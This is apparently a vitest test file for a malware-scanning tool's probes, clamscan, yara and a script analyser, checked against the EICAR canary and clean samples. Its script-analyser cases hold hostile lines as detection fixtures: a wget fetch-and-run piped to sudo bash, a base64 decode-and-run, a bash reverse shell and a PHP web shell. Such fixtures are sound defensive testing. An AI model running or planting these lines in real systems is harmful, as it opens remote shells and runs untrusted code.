import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, test } from 'vitest';
import { commandSchema } from '../../../../src-main/contract/command-settings';
import { detectBytes } from '../../../../src-main/engine/detect-bytes';
import { createCommandProbe } from '../../../../src-main/probes/command/probe';
import type { Probe } from '../../../../src-main/probes/probe';
import { Stage } from '../../../suites/staged-files';
import { describeWith } from '../../../support/components';
import { EICAR, tempFolder } from '../../../support/temp-folder';
import { ProbePlace } from './probe-support';
import { never } from './support';

/** The worked definitions of resources/commands, each run as it stands. */
const COMMANDS = resolve(import.meta.dirname, '../../../../resources/commands');
const CLEAN = 'A plain text without any malice.\n';

/** A probe over one of them, `changes` made to its text (in a copy). */
function bundled(name: string, changes: Readonly<Record<string, string>> = {}): { probe: Probe; place: ProbePlace } {
  const place = new ProbePlace();
  const root = join(place.folder, 'resources/commands', name);
  cpSync(resolve(COMMANDS, '../rules'), join(place.folder, 'resources/rules'), { recursive: true });
  cpSync(join(COMMANDS, name), root, { recursive: true });
  const apis = join(root, 'api.yml');
  let text = readFileSync(apis, 'utf8');
  for (const [from, to] of Object.entries(changes)) {
    expect(text).toContain(from);
    text = text.replaceAll(from, to);
  }
  writeFileSync(apis, text);
  return { probe: place.probe({ apis }), place };
}

async function expectCanaryFound(probe: Probe): Promise<void> {
  expect(await probe.describe(never)).toMatchObject({ state: 'ready', problem: null });
  const { canary } = probe.manifest;
  const stage = new Stage(detectBytes);
  const item = await stage.item(Buffer.from(canary?.bytes ?? ''), canary?.fileName ?? '');
  expect((await probe.scan(item, stage.context(), never)).statement).toBe('found');
}

describeWith(['clamscan'], 'clamscan', () => {
  const database = () => {
    const folder = join(tempFolder(), 'database');
    mkdirSync(folder);
    const hex = EICAR.toString('hex');
    writeFileSync(join(folder, 'eicar.ndb'), `Eicar-Test:0:*:${hex}\n`);
    return { '/var/lib/clamav': folder };
  };

  test('finds its canary by its name, and a clean file clean', async () => {
    const { probe, place } = bundled('clamscan', database());
    await expectCanaryFound(probe);
    const found = await place.scan(probe, EICAR);
    expect(found.findings).toMatchObject([
      { name: 'Eicar-Test.UNOFFICIAL', severity: 'malicious', category: 'malware' },
    ]);
    expect(found.findings[0]?.evidence).toBe('the file: Eicar-Test.UNOFFICIAL FOUND');
    expect(await place.scan(probe, CLEAN)).toMatchObject({
      statement: 'nothing_found',
      coverage: { kind: 'complete' },
    });
  });

  test('without a database, and without the program: errors, never clean', async () => {
    const empty = bundled('clamscan', { '/var/lib/clamav': join(tempFolder(), 'none') });
    expect(await empty.place.failure(empty.probe, CLEAN)).toMatchObject({ code: 'PROBE_FAILED' });
    const away = bundled('clamscan', { ...database(), '- clamscan': '- clamscan-is-not-here' });
    expect(await away.place.failure(away.probe, CLEAN)).toMatchObject({ code: 'PROBE_UNAVAILABLE' });
  });
});

describeWith(['yara'], 'yara', () => {
  test('finds its canary by the name of the rule, and a clean file clean', async () => {
    const { probe, place } = bundled('yara');
    await expectCanaryFound(probe);
    const found = await place.scan(probe, EICAR);
    expect(found.findings).toMatchObject([{ name: expect.stringMatching(/^\w*eicar\w*$/i), severity: 'malicious' }]);
    expect(await place.scan(probe, CLEAN)).toMatchObject({
      statement: 'nothing_found',
      coverage: { kind: 'complete' },
    });
  });

  test('rules that are missing or mistaken, and no program: errors, never clean', async () => {
    const gone = bundled('yara', { 'rules/eicar.yar': 'rules/none.yar' });
    expect(await gone.place.failure(gone.probe, CLEAN)).toMatchObject({ code: 'PROBE_FAILED' });
    const wrong = bundled('yara', { 'rules/eicar.yar': 'commands/yara/match.sh' });
    expect(await wrong.place.failure(wrong.probe, CLEAN)).toMatchObject({ code: 'PROBE_FAILED' });
    const path = tempFolder();
    symlinkSync('/bin/sh', join(path, 'sh'));
    const away = bundled('yara', { 'environment:': `environment:\n  PATH: ${path}` });
    expect((await away.place.failure(away.probe, CLEAN)).message).toContain('exit code 127');
  });
});

describeWith(['python3'], 'the static analyser of scripts', () => {
  const scan = (text: string, mime = 'text/x-shellscript') => {
    const { probe, place } = bundled('scripts');
    return place.scan(probe, text, mime);
  };

  test('finds its canary, and a clean script clean', async () => {
    await expectCanaryFound(bundled('scripts').probe);
    const clean = '#!/bin/sh\nset -eu\ncurl -o page.html https://example.org/\nls | sort\n';
    expect(await scan(clean)).toMatchObject({ statement: 'nothing_found', coverage: { kind: 'complete' } });
  });

  test.each([
    ['fetch_and_run', 'suspicious', 'wget -qO- http://dropgate.invalid/x | sudo bash\n'],
    ['decode_and_run', 'suspicious', 'echo aWQK | base64 -d | sh\n'],
    ['decode_and_run', 'suspicious', 'eval(base64_decode($x));\n'],
    ['reverse_shell', 'malicious', 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n'],
    ['web_shell', 'malicious', '<?php system($_GET["c"]);\n'],
  ])('%s', async (name, severity, line) => {
    const report = await scan(`# a script\n${line}`);
    expect(report.findings).toMatchObject([{ name, severity, category: 'script' }]);
    expect(report.findings[0]?.evidence).toMatch(/^line 2: /);
  });

  test('is made for scripts alone', async () => {
    const { probe } = bundled('scripts');
    await probe.describe(never);
    expect(probe.manifest.others).toBe('ignored');
    const accepted = (mime: string) => probe.manifest.accepts?.some((source) => new RegExp(source, 'i').test(mime));
    expect(accepted('text/x-shellscript')).toBe(true);
    expect(accepted('application/pdf')).toBe(false);
  });

  test('without python3: an error, never clean', async () => {
    const { probe, place } = bundled('scripts', { 'python3,': 'python3-is-not-here,' });
    expect(await place.failure(probe, CLEAN, 'text/x-shellscript')).toMatchObject({ code: 'PROBE_UNAVAILABLE' });
  });
});

test('every definition of the program can be read', async () => {
  for (const name of ['clamscan', 'yara', 'scripts']) {
    const probe = createCommandProbe(commandSchema.parse({ apis: join(COMMANDS, name, 'api.yml') }), {
      folder: join(tempFolder(), 'commands'),
    });
    expect(await probe.describe(never)).toMatchObject({ state: 'ready', problem: null });
    await probe.close();
  }
});
